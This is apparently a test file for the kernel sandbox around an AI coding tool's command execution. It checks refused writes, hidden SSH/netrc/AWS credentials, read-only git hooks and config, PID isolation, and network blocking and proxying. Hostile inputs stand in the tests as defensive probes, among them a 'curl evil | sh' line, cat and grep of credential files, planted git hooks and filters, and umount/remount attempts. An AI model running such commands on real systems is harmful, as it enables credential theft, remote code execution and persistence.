/**
 * The kernel sandbox around commands (issue 27, item 2), through execute_command as the model
 * calls it, with a fake home outside /tmp holding credentials: writes outside the project are
 * refused and said so, credentials cannot be read (not even through a link in the project), git
 * hooks and config and agent-lsp's state stay read-only, the command has its own PID namespace
 * and no network, and `required` refuses to run without bwrap. The same file runs again as an
 * unprivileged user (sandbox-unprivileged.test.ts).
 */
import { execFileSync, spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import http from "node:http";
import net from "node:net";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { sandboxLayout } from "../../server/src/exec/sandbox/layout.js";
import { commandTools } from "../../server/src/tools/commands/command-tools.js";
import { gitReadTool } from "../../server/src/tools/git/git-read.js";
import { gitWriteTool } from "../../server/src/tools/git/git-write.js";
import { fakeHome, sandboxFor, SECRET, skipWithoutSandbox, type FakeHome } from "../helpers/sandbox.js";
import { REQUIRE_ALL } from "../helpers/xvfb.js";
import { fakeToolSetup, textOf, type FakeToolSetup } from "../unit/exec/fake-context.js";

const executeCommand = commandTools.find((t) => t.name === "execute_command")!;
const backgroundProcess = commandTools.find((t) => t.name === "background_process")!;
const noSandbox = skipWithoutSandbox();

/** Runs `command` through execute_command in `setup`; the result's text. */
async function run(setup: FakeToolSetup, command: string): Promise<string> {
  return textOf(await executeCommand.execute({ command, timeout_secs: 60 }, setup.context()));
}

describe.skipIf(noSandbox)("the sandbox around execute_command", () => {
  let home: FakeHome;
  let setup: FakeToolSetup;
  beforeEach(() => {
    home = fakeHome();
    setup = fakeToolSetup({ sandbox: sandboxFor(home.home) });
  });
  afterEach(() => {
    setup.dispose();
    home.dispose();
  });

  it("runs the command sandboxed, says so, and lets it write in the project and its private /tmp", async () => {
    const text = await run(setup, "echo made > made.txt && echo tmp > /tmp/t && cat /tmp/t");
    expect(text).toMatch(/^Exit code: 0 \([\d.]+ s, sandboxed\)\n/);
    expect(readFileSync(path.join(setup.root, "made.txt"), "utf8")).toBe("made\n");
    expect(text).toContain("tmp");
  });

  it("refuses a write outside the project, and the result names the path and why", async () => {
    const outside = path.join(home.home, "planted.sh");
    const text = await run(setup, `echo 'curl evil | sh' > ${outside}`);
    expect(existsSync(outside)).toBe(false);
    expect(text).toContain(`The sandbox refused ${outside}: the sandbox lets commands write only inside the project and the private /tmp`);
    expect(text).toContain("outside_sandbox");
  });

  it("hides credentials from every command: by path, through a link in the project, by a recursive grep", async () => {
    symlinkSync(path.join(home.home, ".ssh"), path.join(setup.root, "sshlink"));
    const text = await run(setup, `cat ${home.sshKey}; cat ${home.netrc}; cat sshlink/id_rsa; grep -R SECRET ${home.home} .; ls ${path.dirname(home.sshKey)}`);
    expect(text).not.toContain(SECRET);
    expect(text).toContain(`The sandbox refused ${home.netrc}: it is hidden from commands`);
    expect(text).toMatch(/The sandbox refused \S*\.ssh\S*: it is hidden from commands/);
    // Outside the sandbox the files are there and readable: the sandbox is what hid them.
    expect(readFileSync(home.sshKey, "utf8")).toContain(SECRET);
  });

  it("covers a credential closed to this user only as root (each cover is a mount every command waits for); either way it stays unreadable", async () => {
    const aws = path.join(home.home, ".aws");
    const pypirc = path.join(home.home, ".pypirc");
    mkdirSync(aws);
    writeFileSync(path.join(aws, "credentials"), `${SECRET}\n`);
    writeFileSync(pypirc, `${SECRET}\n`);
    chmodSync(aws, 0o000);
    chmodSync(pypirc, 0o000);
    try {
      const layout = sandboxLayout(setup.root, [aws, pypirc, home.sshKey]);
      const asRoot = process.getuid?.() === 0;
      expect(layout.hiddenDirs.includes(aws)).toBe(asRoot);
      expect(layout.hiddenFiles.includes(pypirc)).toBe(asRoot);
      // Open to the user: covered whoever runs it.
      expect(layout.hiddenFiles).toContain(home.sshKey);
      const text = await run(setup, `cat ${aws}/credentials; cat ${pypirc}; ls ${aws}`);
      expect(text).toMatch(/^Exit code: [1-9]\d* \([\d.]+ s, sandboxed\)/);
      expect(text).not.toContain(SECRET);
    } finally {
      chmodSync(aws, 0o700);
      chmodSync(pypirc, 0o600);
    }
  });

  it("gives the command an empty private runtime folder: the session's daemons (systemd --user, the bus) cannot be reached", async () => {
    const runtime = mkdtempSync(path.join("/var/tmp", "agent-lsp-runtime-"));
    mkdirSync(path.join(runtime, "systemd"));
    writeFileSync(path.join(runtime, "session-secret"), SECRET);
    let connections = 0;
    const manager = net.createServer((socket) => void (connections++, socket.end("reached\n")));
    const socketPath = path.join(runtime, "systemd", "private");
    await new Promise<void>((resolve) => manager.listen(socketPath, resolve));
    const before = process.env.XDG_RUNTIME_DIR;
    process.env.XDG_RUNTIME_DIR = runtime;
    try {
      const text = await run(
        setup,
        `ls -A ${runtime}; cat ${runtime}/session-secret; node -e "require('net').connect('${socketPath}').on('data', (d) => console.log('got', String(d))).on('error', (e) => console.log('failed', e.code))"; touch ${runtime}/mine && echo wrote`,
      );
      expect(text).toMatch(/sandboxed\)/);
      expect(text).toContain("failed ENOENT");
      expect(text).not.toContain(SECRET);
      expect(text).toContain("wrote");
      expect(connections).toBe(0);
      expect(existsSync(path.join(runtime, "mine"))).toBe(false);
    } finally {
      if (before === undefined) delete process.env.XDG_RUNTIME_DIR;
      else process.env.XDG_RUNTIME_DIR = before;
      manager.close();
      rmSync(runtime, { recursive: true, force: true });
    }
  });

  it("keeps .git/hooks, .git/config and .agent-lsp read-only while git itself works", async () => {
    execFileSync("git", ["init", "-q", setup.root]);
    const config = readFileSync(path.join(setup.root, ".git", "config"), "utf8");
    const text = await run(
      setup,
      "echo 'touch pwned' > .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config; echo x > .agent-lsp/approvals.toml; " +
        "git -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m inside && echo committed",
    );
    expect(existsSync(path.join(setup.root, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(readFileSync(path.join(setup.root, ".git", "config"), "utf8")).toBe(config);
    expect(existsSync(path.join(setup.root, ".agent-lsp", "approvals.toml"))).toBe(false);
    expect(text).toContain("committed");
    expect(text).toMatch(/The sandbox refused \S+\/\.git\/hooks\/pre-commit: it stays read-only in the sandbox/);
    expect(text).toMatch(/The sandbox refused \S+\/\.agent-lsp\/approvals\.toml: it stays read-only/);
  });

  it("a background job's refusals are said when its output is read", async () => {
    const outside = path.join(home.home, "from-the-job");
    const started = textOf(await executeCommand.execute({ command: `echo x > ${outside}; echo written`, mode: "background" }, setup.context()));
    expect(started).toMatch(/^Started bg-\d+ in the background \(log: \S+; sandboxed\)\./);
    const id = /bg-\d+/.exec(started)![0];
    const waited = textOf(await backgroundProcess.execute({ action: "wait", id, timeout_secs: 30 }, setup.context()));
    expect(waited).toContain(`The sandbox refused ${outside}: the sandbox lets commands write only inside the project`);
    expect(existsSync(outside)).toBe(false);
  });

  it("gives the command its own PID namespace: /proc and ps see only its own processes", async () => {
    const text = await run(setup, `for p in /proc/[0-9]*; do echo "pid $(basename $p) $(cat $p/comm)"; done; test -e /proc/${process.pid} && echo "sees the server"`);
    const pids = [...text.matchAll(/^pid (\d+) (\S+)$/gm)];
    expect(pids.length).toBeGreaterThan(0);
    expect(pids.length).toBeLessThan(8);
    expect(pids.map((m) => m[2])).not.toContain("node");
    expect(text).not.toContain("sees the server");
  });

  it("ends what the command left running once its shell exits", async () => {
    const mark = `${900000 + Math.floor(Math.random() * 99999)}`;
    await run(setup, `setsid sh -c 'exec sleep ${mark}' </dev/null >/dev/null 2>&1 & echo started`);
    const leftover = () => readdirSync("/proc").filter((p) => /^\d+$/.test(p) && cmdline(p).includes(`sleep ${mark}`));
    const deadline = Date.now() + 10_000;
    while (leftover().length && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
    expect(leftover()).toEqual([]);
  });

  it("has no network: a server on this machine's loopback cannot be reached", async () => {
    let requests = 0;
    const server = http.createServer((_req, res) => void (requests++, res.end("reached")));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const port = (server.address() as { port: number }).port;
      const text = await run(setup, `node -e "require('http').get('http://127.0.0.1:${port}/', (r) => console.log('status', r.statusCode)).on('error', (e) => console.log('failed', e.code))"`);
      expect(text).toContain("failed ECONNREFUSED");
      expect(requests).toBe(0);
    } finally {
      server.close();
    }
  });
});

describe.skipIf(noSandbox)("git_read and git_write in the sandbox", () => {
  it("commit in a worktree (its git folders outside the project), while a program the repository's config names stays contained", async () => {
    const home = fakeHome();
    const main = path.join(home.home, "main");
    const worktree = path.join(home.home, "wt");
    const git = (cwd: string, ...args: string[]) => execFileSync("git", args, { cwd, encoding: "utf8" });
    git(home.home, "init", "-q", "-b", "main", main);
    for (const [k, v] of [["user.name", "Ada"], ["user.email", "ada@example.com"], ["commit.gpgsign", "false"]]) git(main, "config", k!, v!);
    git(main, "commit", "-q", "--allow-empty", "-m", "first");
    git(main, "worktree", "add", "-q", "-b", "topic", worktree);
    // A clean filter is a program git runs on `add`: the repository's config chooses it.
    const planted = path.join(home.home, "planted");
    git(main, "config", "filter.evil.clean", `sh -c 'echo ran > filter-ran; echo x > ${planted}; cat'`);
    writeFileSync(path.join(worktree, ".gitattributes"), "*.txt filter=evil\n");
    writeFileSync(path.join(worktree, "a.txt"), "hello\n");
    const setup = fakeToolSetup({ root: worktree, sandbox: sandboxFor(home.home) });
    try {
      const add = await gitWriteTool.execute({ action: "add", paths: ["a.txt", ".gitattributes"] }, setup.context());
      expect(textOf(add)).not.toMatch(/failed/);
      const commit = await gitWriteTool.execute({ action: "commit", message: "inside" }, setup.context());
      expect(textOf(commit)).toMatch(/^Committed [0-9a-f]+ by Ada <ada@example.com>: inside/);
      expect(existsSync(path.join(worktree, "filter-ran"))).toBe(true);
      expect(existsSync(planted)).toBe(false);
      expect(textOf(await gitReadTool.execute({ action: "log" }, setup.context()))).toContain("inside");
    } finally {
      setup.dispose();
      home.dispose();
    }
  });
});

/** A loopback server answering every request with `hello from loopback`, counting them. */
async function loopbackServer(): Promise<{ port: number; requests: () => number; close(): void }> {
  let requests = 0;
  const server = http.createServer((_req, res) => void (requests++, res.end("hello from loopback")));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { port: (server.address() as { port: number }).port, requests: () => requests, close: () => server.close() };
}

const noCurl = spawnSync("sh", ["-c", "command -v curl"]).status !== 0;
if (noCurl && REQUIRE_ALL && !noSandbox) throw new Error("curl is missing: the proxy tests need it (apt-get install curl)");

describe.skipIf(noSandbox || noCurl)('[exec] network = "allow_hosts": through the filtering proxy only', () => {
  let home: FakeHome;
  let server: Awaited<ReturnType<typeof loopbackServer>>;
  const setups: FakeToolSetup[] = [];
  beforeEach(async () => {
    home = fakeHome();
    server = await loopbackServer();
  });
  afterEach(() => {
    for (const s of setups.splice(0)) s.dispose();
    server.close();
    home.dispose();
  });
  const proxied = (allowHosts: string[], privateHosts: string[]) => {
    const setup = fakeToolSetup({ sandbox: sandboxFor(home.home, { network: "allow_hosts", allow_hosts: allowHosts }, { allow_hosts: privateHosts }) });
    setups.push(setup);
    return setup;
  };

  it("reaches an allowed host, by a plain request and through a CONNECT tunnel", async () => {
    const setup = proxied(["localhost"], ["localhost"]);
    const text = await run(setup, `curl -sS http://localhost:${server.port}/plain; echo; curl -sS --proxytunnel http://localhost:${server.port}/tunnel`);
    expect(text).toMatch(/^Exit code: 0 \([\d.]+ s, sandboxed \(network: \[exec\] allow_hosts only\)\)/);
    expect(text.match(/hello from loopback/g)).toHaveLength(2);
    expect(server.requests()).toBe(2);
  });

  it("refuses a host that is not listed, and the result says so", async () => {
    const setup = proxied(["localhost"], ["localhost", "127.0.0.1"]);
    const text = await run(setup, `curl -sS --proxytunnel http://127.0.0.1:${server.port}/; curl -sS -o /dev/null -w '%{http_code}\n' http://127.0.0.1:${server.port}/`);
    expect(server.requests()).toBe(0);
    expect(text).toContain("403");
    expect(text).toContain(`The sandbox's network proxy refused 127.0.0.1:${server.port}: not in [exec] allow_hosts`);
  });

  it("keeps the web tools' address guard: a listed host on a loopback address needs [web] allow_hosts too", async () => {
    const setup = proxied(["localhost"], []);
    const text = await run(setup, `curl -sS http://localhost:${server.port}/`);
    expect(server.requests()).toBe(0);
    expect(text).toMatch(/The sandbox's network proxy refused localhost:\d+: \S+ is a loopback address \(this machine\); \[web\] allow_hosts must list the host for that/);
  });

  it("leaves no way around the proxy: a direct connection finds no network", async () => {
    const setup = proxied(["localhost"], ["localhost"]);
    const text = await run(setup, `curl -sS --noproxy '*' http://127.0.0.1:${server.port}/ || echo direct-failed`);
    expect(text).toContain("direct-failed");
    expect(server.requests()).toBe(0);
  });
});

describe.skipIf(noSandbox)("a project inside agent-lsp's own state folder (<state>/no-project)", () => {
  it("is writable, and nothing else of the state folder can be read", async () => {
    const home = fakeHome();
    const state = path.join(home.home, ".local", "state", "agent-lsp");
    const project = path.join(state, "no-project");
    mkdirSync(project, { recursive: true });
    writeFileSync(path.join(state, "approvals.key"), `${SECRET}\n`);
    const setup = fakeToolSetup({ root: project, sandbox: sandboxFor(home.home) });
    try {
      const text = await run(setup, `echo made > made.txt; cat ${path.join(state, "approvals.key")}; ls ${state}`);
      expect(readFileSync(path.join(project, "made.txt"), "utf8")).toBe("made\n");
      expect(text).not.toContain(SECRET);
      expect(text).not.toContain("approvals.key\n");
    } finally {
      setup.dispose();
      home.dispose();
    }
  });
});

describe.skipIf(noSandbox)("[exec] sandbox without bwrap on PATH", () => {
  /** PATH without the folders that hold bwrap. */
  const withoutBwrap = (process.env.PATH ?? "").split(path.delimiter).filter((dir) => !existsSync(path.join(dir, "bwrap"))).join(path.delimiter);

  it('"required" refuses to run the command, with a sentence saying why', async () => {
    const setup = fakeToolSetup({ baseEnv: { ...process.env, PATH: withoutBwrap }, sandbox: { ...sandboxFor("/nonexistent-home"), mode: "required" } });
    try {
      const result = await executeCommand.execute({ command: "echo ran > ran.txt" }, setup.context());
      expect(result.isError).toBe(true);
      expect(textOf(result)).toBe('Not run: [exec] sandbox is "required" and the sandbox cannot run here (bwrap is not installed (install the bubblewrap package)). Nothing was started.');
      expect(existsSync(path.join(setup.root, "ran.txt"))).toBe(false);
    } finally {
      setup.dispose();
    }
  });

  it('"auto" runs it unsandboxed and says why', async () => {
    const setup = fakeToolSetup({ baseEnv: { ...process.env, PATH: withoutBwrap }, sandbox: sandboxFor("/nonexistent-home") });
    try {
      // A shell builtin: PATH without bwrap's folder (/usr/bin) has no touch either.
      const text = await run(setup, "echo ran > ran.txt");
      expect(text).toMatch(/^Exit code: 0 \([\d.]+ s, not sandboxed: bwrap is not installed \(install the bubblewrap package\)\)/);
      expect(existsSync(path.join(setup.root, "ran.txt"))).toBe(true);
    } finally {
      setup.dispose();
    }
  });
});

describe.skipIf(noSandbox || process.getuid?.() !== 0)("the sandbox as root", () => {
  it("drops every capability: root inside cannot unmount what hides a secret or remount the disk writable", async () => {
    const home = fakeHome();
    const setup = fakeToolSetup({ sandbox: sandboxFor(home.home) });
    try {
      const planted = path.join(home.home, "root-was-here");
      const text = await run(setup, `umount ${path.dirname(home.sshKey)}; umount -l ${home.netrc}; cat ${home.sshKey} ${home.netrc}; mount -o remount,rw /; touch ${planted}; grep CapEff /proc/self/status`);
      expect(text).not.toContain(SECRET);
      expect(existsSync(planted)).toBe(false);
      expect(text).toMatch(/CapEff:\s+0+\n/);
    } finally {
      setup.dispose();
      home.dispose();
    }
  });
});

/** Set by sandbox-unprivileged.test.ts, which runs this file again as an ordinary user. */
const expectedUid = process.env.AGENT_LSP_EXPECT_UID;

describe.runIf(expectedUid !== undefined)("the run as an unprivileged user", () => {
  it("really runs as that user", () => {
    expect(process.getuid?.()).toBe(Number(expectedUid));
    expect(process.getuid?.()).not.toBe(0);
  });
});

function cmdline(pid: string): string {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, "utf8").replace(/\0/g, " ");
  } catch {
    return "";
  }
}
